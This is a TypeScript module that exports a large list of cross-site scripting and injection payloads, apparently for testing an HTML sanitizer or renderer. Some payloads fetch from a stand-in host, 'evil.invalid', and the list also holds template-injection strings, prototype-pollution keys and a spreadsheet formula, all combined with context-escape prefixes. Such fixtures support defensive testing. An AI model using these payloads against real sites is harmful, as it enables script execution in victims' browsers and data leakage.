/** What a script in a text would do: tell that it ran, and ask another server for something. */
const RUN = 'pwn()';
const EVIL = 'https://evil.invalid';

/** Ways in which markup runs a script or fetches something, as they are known from the field. */
const MARKUP = [
	`<script>${RUN}</script>`,
	`<script src="${EVIL}/x.js"></script>`,
	`<ScRiPt >${RUN}</ScRiPt >`,
	`<img src=x onerror=${RUN}>`,
	`<img src=x onerror="${RUN}">`,
	`<img src="x:x" onerror='${RUN}'>`,
	`<IMG SRC=x OnErRoR=${RUN}>`,
	`<img/src=x/onerror=${RUN}>`,
	`<img src="${EVIL}/pixel.png">`,
	`<img srcset="${EVIL}/pixel.png 1x">`,
	`<svg onload=${RUN}>`,
	`<svg/onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
	`<svg><style><img src=x onerror=${RUN}></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
	`<math href="javascript:${RUN}">x</math>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe src="${EVIL}/"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<object data="${EVIL}/x.swf"></object>`,
	`<embed src="${EVIL}/x.svg">`,
	`<a href="javascript:${RUN}">x</a>`,
	`<a href=" javascript:${RUN}">x</a>`,
	`<a href="java&#10;script:${RUN}">x</a>`,
	`<a href="data:text/html,<script>${RUN}</script>">x</a>`,
	`<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
	`<form action="${EVIL}"><button>x</button></form>`,
	`<button formaction="javascript:${RUN}">x</button>`,
	`<input autofocus onfocus=${RUN}>`,
	`<select autofocus onfocus=${RUN}></select>`,
	`<textarea autofocus onfocus=${RUN}></textarea>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<video src=x onerror=${RUN}></video>`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}></audio>`,
	`<body onload=${RUN}>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<style>@import "${EVIL}/x.css";</style>`,
	`<style>*{background:url(${EVIL}/x.png)}</style>`,
	`<link rel=stylesheet href="${EVIL}/x.css">`,
	`<link rel=preload as=image href="${EVIL}/x.png">`,
	`<meta http-equiv=refresh content="0;url=${EVIL}/">`,
	`<base href="${EVIL}/">`,
	`<p style="background:url(${EVIL}/x.png)">x</p>`,
	`<p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
	`<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<![CDATA[<img src=x onerror=${RUN}>]]>`,
	`<xss onpointerenter=${RUN} style="position:fixed;inset:0">x</xss>`,
	`<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`
];

/** Ways to what is not markup: templates, Markdown, addresses, what other programs run. */
const OTHER = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}//`,
	`data:text/html,<script>${RUN}</script>`,
	`[x](javascript:${RUN})`,
	`![x](${EVIL}/x.png)`,
	`![x](x"onerror="${RUN})`,
	`{@html '<img src=x onerror=${RUN}>'}`,
	`{${RUN}}`,
	`\${${RUN}}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`#{${RUN}}`,
	`<%= ${RUN} %>`,
	`';${RUN};'`,
	`";${RUN};"`,
	`\\u003cimg src=x onerror=${RUN}\\u003e`,
	`&lt;img src=x onerror=${RUN}&gt;`,
	`%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
	`__proto__`,
	`constructor`,
	`=HYPERLINK("${EVIL}","x")`,
	`\u202E<img src=x onerror=${RUN}>`,
	`＜img src=x onerror=${RUN}＞`
];

/** What stands before a payload to leave the place in which it is put. */
const EXITS = ['', '">', "'>", '</textarea>', '</title></style>', '--></script>'];

/** Every payload, with what may let it out of an attribute, a text field, a comment. */
export const PAYLOADS: readonly string[] = [
	...MARKUP.flatMap((each) => EXITS.map((exit) => exit + each)),
	...OTHER
];
